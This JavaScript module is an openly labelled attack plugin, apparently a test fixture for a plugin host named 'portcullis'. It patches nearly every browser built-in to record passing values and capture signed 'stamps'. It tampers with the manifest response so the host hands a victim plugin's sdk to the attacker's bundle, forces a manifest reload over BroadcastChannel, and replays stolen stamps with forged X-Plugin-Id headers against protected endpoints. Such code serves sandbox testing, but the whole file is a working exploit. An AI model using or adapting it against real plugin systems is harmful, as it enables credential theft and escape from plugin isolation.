// Replaces the built-ins that the page's code uses, and records whatever passes through them.
import { createElement as h } from 'react';

const { apply, ownKeys, getOwnPropertyDescriptor, defineProperty, getPrototypeOf } = Reflect;
const realFetch = globalThis.fetch.bind(globalThis);
const realText = Response.prototype.text;
const ArrayIterator = getPrototypeOf([][Symbol.iterator]());
const MapIterator = getPrototypeOf(new Map().values());
const loot = [];
let taking = false;
// Not startsWith, which is replaced too.
const isStamp = (value) => typeof value === 'string' && value[0] === 'v' && value[1] === '1' && value[2] === '.';
// Records only those texts that look like a stamp.
const keep = (value) => {
  if (!taking || loot.length >= 50_000 || value === null) return;
  const kind = typeof value;
  if (kind === 'object' || kind === 'function' || isStamp(value)) loot[loot.length] = value;
};
const STAMP = /^v1\.[^.]+\.\d+\.[^.]+$/;

/**
 * Makes every function of `proto` record its arguments first. A stamp that passes through is withheld, so its call
 * fails.
 */
const wrap = (proto, { withhold = false } = {}) => {
  for (const key of ownKeys(proto)) {
    const descriptor = getOwnPropertyDescriptor(proto, key);
    for (const part of ['value', 'get', 'set']) {
      const real = descriptor[part];
      if (typeof real !== 'function' || key === 'constructor') continue;
      descriptor[part] = function (...given) {
        keep(this);
        for (let i = 0; i < given.length; i++) {
          keep(given[i]);
          if (withhold && taking && isStamp(given[i])) throw new Error('withheld');
        }
        const result = apply(real, this, given);
        keep(result);
        return result;
      };
    }
    try {
      defineProperty(proto, key, descriptor);
    } catch {}
  }
};
const set = (target, key, value) => {
  try {
    target[key] = value;
  } catch {}
};
const getter = (name, seen) => {
  try {
    defineProperty(Object.prototype, name, {
      configurable: true,
      get() {
        seen(this);
        return undefined;
      },
      set(value) {
        seen(this);
        seen(value);
        defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  } catch {}
};

const patches = {
  fetch: () => {
    const real = globalThis.fetch;
    set(globalThis, 'fetch', (...given) => {
      given.forEach(keep);
      return real(...given);
    });
  },
  request: () => {
    wrap(Request.prototype);
    const Real = globalThis.Request;
    set(
      globalThis,
      'Request',
      class extends Real {
        constructor(...given) {
          super(...given);
          given.forEach(keep);
        }
      },
    );
  },
  headers: () => {
    wrap(Headers.prototype, { withhold: true });
    const Real = globalThis.Headers;
    set(
      globalThis,
      'Headers',
      class extends Real {
        constructor(...given) {
          super(...given);
          given.forEach(keep);
          keep(this);
        }
      },
    );
  },
  promise: () => {
    const Real = Promise;
    const { then } = Promise.prototype;
    wrap(Promise.prototype);
    set(Promise.prototype, 'then', function (done, failed) {
      const seen = (value) => {
        keep(value);
        return typeof done === 'function' ? done(value) : value;
      };
      return apply(then, this, [seen, failed]);
    });
    set(Promise.prototype, 'constructor', function Taken(run) {
      return new Real(run);
    });
    for (const key of ['resolve', 'all', 'race', 'allSettled']) {
      const real = Promise[key];
      set(Promise, key, function (...given) {
        given.forEach(keep);
        return apply(real, this, given);
      });
    }
  },
  object: () => {
    for (const name of ['then', 'sdk', 'headers', 'pluginId', 'csrfToken', 'signal', 'stamp', 'key', 'life', 'loaded'])
      getter(name, keep);
    wrap(Object.prototype);
  },
  subtle: () => {
    wrap(SubtleCrypto.prototype, { withhold: true });
    wrap(Crypto.prototype);
    wrap(CryptoKey.prototype);
  },
  iterators: () => {
    wrap(ArrayIterator);
    wrap(MapIterator);
    const real = Array.prototype[Symbol.iterator];
    set(Array.prototype, Symbol.iterator, function () {
      keep(this);
      return apply(real, this, []);
    });
  },
  collections: () => {
    for (const { prototype } of [Map, Set, WeakMap, WeakSet]) wrap(prototype);
  },
  arrays: () => wrap(Array.prototype, { withhold: true }),
  functions: () => wrap(Function.prototype),
  response: () => {
    wrap(Response.prototype);
    wrap(ReadableStream.prototype);
    wrap(ReadableStreamDefaultReader.prototype);
  },
  strings: () => {
    wrap(String.prototype, { withhold: true });
    wrap(RegExp.prototype, { withhold: true });
    wrap(JSON, { withhold: true });
  },
  bytes: () => {
    for (const { prototype } of [TextEncoder, TextDecoder, ArrayBuffer, DataView]) wrap(prototype, { withhold: true });
    wrap(getPrototypeOf(Uint8Array.prototype), { withhold: true });
    for (const name of ['btoa', 'atob']) {
      const real = globalThis[name];
      set(globalThis, name, (text) => {
        keep(text);
        keep(real(text));
        return real(text);
      });
    }
  },
  url: () => {
    wrap(URL.prototype);
    const Real = globalThis.URL;
    set(
      globalThis,
      'URL',
      class extends Real {
        constructor(...given) {
          super(...given);
          given.forEach(keep);
        }
      },
    );
  },
  events: () => {
    for (const { prototype } of [EventTarget, AbortController, AbortSignal, BroadcastChannel, MessagePort])
      wrap(prototype);
    for (const name of ['setTimeout', 'queueMicrotask', 'structuredClone']) {
      const real = globalThis[name];
      set(globalThis, name, (...given) => {
        given.forEach(keep);
        return real(...given);
      });
    }
  },
  statics: () => {
    for (const target of [Object, Reflect, Array]) {
      for (const key of ownKeys(target)) {
        const real = target[key];
        if (typeof real !== 'function' || key === 'prototype') continue;
        set(target, key, function (...given) {
          for (let i = 0; i < given.length; i++) keep(given[i]);
          const result = apply(real, this, given);
          keep(result);
          return result;
        });
      }
    }
  },
  // Tells the host that the victim's bundle is this plugin's, which would then receive the victim's sdk.
  manifests: () => {
    for (const name of ['text', 'json']) {
      const real = Response.prototype[name];
      set(Response.prototype, name, async function () {
        const body = await apply(real, this, []);
        const list = typeof body === 'string' && body.startsWith('[{') ? JSON.parse(body) : body;
        if (!Array.isArray(list)) return body;
        const { bundle } = list.find(({ id }) => id === 'patcher') ?? {};
        for (const entry of list) if (entry.id === 'victim') Object.assign(entry, { bundle, version: '1.0.1' });
        return typeof body === 'string' ? JSON.stringify(list) : list;
      });
    }
  },
};

const isObject = (value) => value !== null && (typeof value === 'object' || typeof value === 'function');
/** Searches the recorded values through properties, maps and arrays. */
function search(wanted) {
  const seen = new Set();
  let layer = loot;
  for (let depth = 0; depth < 6 && seen.size < 200_000; depth++) {
    const next = [];
    for (const value of layer) {
      if (!isObject(value) || seen.has(value) || value === globalThis || value instanceof Node) continue;
      seen.add(value);
      try {
        if (wanted(value)) return value;
        if (value instanceof Map) next.push(...value.values());
        for (const key of ownKeys(value)) {
          const descriptor = getOwnPropertyDescriptor(value, key);
          if (descriptor !== undefined && 'value' in descriptor) next.push(descriptor.value);
        }
      } catch {}
    }
    layer = next;
  }
  return null;
}

const attacks = {
  install: (name) => {
    taking = false;
    patches[name]();
    taking = true;
  },
  /** Makes the host fetch its list again; any script of the origin can cause that. */
  renew: () => {
    const channel = new BroadcastChannel('portcullis.events');
    channel.postMessage({ kind: 'event', type: 'manifests', data: '{}' });
  },
  harvest: async ({ id, vault, stolen }) => {
    taking = false;
    const found = [];
    const sdk = search((value) => value.pluginId === id && typeof value.api?.fetch === 'function');
    if (sdk !== null) {
      found.push("the victim's sdk");
      await sdk.api.fetch(vault).catch(() => {});
    }
    const host = search((value) => typeof value.getSnapshot === 'function' && typeof value.loaded === 'function');
    if (host !== null) {
      found.push('the host');
      await host
        .loaded(id)
        ?.sdk?.api.fetch(vault)
        .catch(() => {});
    }
    const stamps = [...new Set(loot.filter((value) => typeof value === 'string' && STAMP.test(value)))];
    for (const stamp of stamps.slice(0, 20)) {
      for (const identity of [{ 'X-Plugin-Id': id }, {}]) {
        for (const target of [stolen, '/api/plugins/manifests']) {
          const headers = { ...identity, 'X-Plugin-Stamp': stamp };
          const response = await realFetch(target, { headers, cache: 'no-store' });
          if (response.ok)
            found.push(`${target} with a stamp that was taken: ${(await apply(realText, response, [])).length} bytes`);
        }
      }
    }
    return { found, kept: loot.length };
  },
};

export default (given) => {
  keep(given);
  if (given.pluginId !== 'patcher') globalThis.givenTo = given;
  globalThis.attack ??= (name, argument) => attacks[name](argument);
  return {
    routes: {
      Page: ({ navigate }) => {
        globalThis.go = navigate;
        return h('div', { 'data-plugin-page': given.pluginId });
      },
    },
  };
};
